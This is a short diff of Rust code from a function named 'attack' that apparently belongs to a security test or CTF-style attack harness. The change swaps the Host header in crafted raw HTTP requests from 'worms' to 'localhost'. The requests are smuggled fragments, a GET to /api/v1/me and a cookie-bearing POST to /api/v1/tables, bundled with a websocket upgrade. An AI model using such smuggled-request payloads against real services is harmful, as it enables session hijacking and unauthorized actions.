@@ -20,9 +20,9 @@ pub(super) async fn attack(me: &Attacker) -> anyhow::Result<()> {
     let socket = super::streams::upgrade(&format!("/ws/v1?table={code}"), &cookie);
     let halves = [
         String::new(),
-        "GET /api/v1/me HTTP/1.1\r\nhost: worms\r\nx-half: ".to_owned(),
+        "GET /api/v1/me HTTP/1.1\r\nhost: localhost\r\nx-half: ".to_owned(),
         format!(
-            "POST /api/v1/tables HTTP/1.1\r\nhost: worms\r\ncookie: {cookie}\r\ncontent-type: application/json\r\n\
+            "POST /api/v1/tables HTTP/1.1\r\nhost: localhost\r\ncookie: {cookie}\r\ncontent-type: application/json\r\n\
              content-length: 100\r\n\r\n{{"
         ),
         socket,
